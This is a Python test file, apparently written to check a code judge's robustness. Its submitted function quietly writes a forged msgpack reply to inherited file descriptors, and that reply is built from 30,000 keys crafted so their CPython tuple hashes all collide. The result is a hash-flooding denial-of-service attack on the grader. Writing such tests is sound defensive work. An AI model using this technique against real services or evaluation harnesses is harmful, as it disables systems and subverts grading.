# Answers with a map whose keys all have one hash: decoding it would take the judge hours, and no clock could stop it.
# expect: double=crashed
import os
import struct

import msgspec

MASK, PRIME1, PRIME2, PRIME5 = 2**64 - 1, 11400714785074694791, 14029467366897019727, 2870177450012600261


def double(x):
    inverse, keys, first = pow(PRIME2, -1, 1 << 64), [], 0
    while len(keys) < 30_000:  # (first, second) with the hash of all others: CPython's tuplehash, solved for second
        first += 1
        lane = (PRIME5 + first * PRIME2) & MASK
        lane = (((lane << 31) | (lane >> 33)) & MASK) * PRIME1 & MASK
        second = ((12345 - lane) * inverse) & MASK
        second -= (second >= 1 << 63) << 64
        if abs(second) < (1 << 61) - 1 and second != -1:
            keys.append((first, second))
    encode = msgspec.msgpack.encode
    body = b"\xdf" + struct.pack(">I", len(keys)) + b"".join(encode(list(key)) + b"\xc0" for key in keys)
    header = b"\x94\x01" + encode("value") + body + b"\x90"
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">IQ", len(header), 0) + header)
        except OSError:
            pass
    return x
